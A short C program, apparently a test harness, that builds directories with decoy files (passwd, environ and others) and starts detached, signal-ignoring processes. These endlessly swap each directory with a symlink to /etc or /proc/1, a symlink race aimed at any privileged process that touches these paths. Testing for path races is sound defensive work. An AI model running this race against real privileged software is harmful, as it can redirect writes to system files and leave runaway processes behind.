/* SPDX-License-Identifier: Apache-2.0 */
/* d0/passwd is ours; d0 is exchanged with a link to /etc as fast as it goes, by processes that try to outlive us. */
static void race(const char *a, const char *b)
{
    for (int s = 1; s < 65; s++)
        signal(s, SIG_IGN);
    setsid();
    for (;;)
        syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */);
}

int main(void)
{
    static const char *const names[] = { "passwd", "hostname", "environ", "status" };

    for (int i = 0; i < 4; i++) {
        char directory[16], link[16], path[64];

        sprintf(directory, "d%d", i);
        sprintf(link, "l%d", i);
        if (mkdir(directory, 0755) || symlink(i % 2 ? "/etc" : "/proc/1", link))
            return 3;
        for (int n = 0; n < 4; n++) {
            sprintf(path, "%s/%s", directory, names[n]);
            int fd = open(path, O_CREAT | O_WRONLY, 0644);
            if (write(fd, "mine", 4) != 4)
                return 3;
            close(fd);
        }
        if (fork() == 0) {
            if (fork() == 0)
                race(directory, link);
            _exit(0);
        }
    }
    usleep(30000);
    return 0;
}
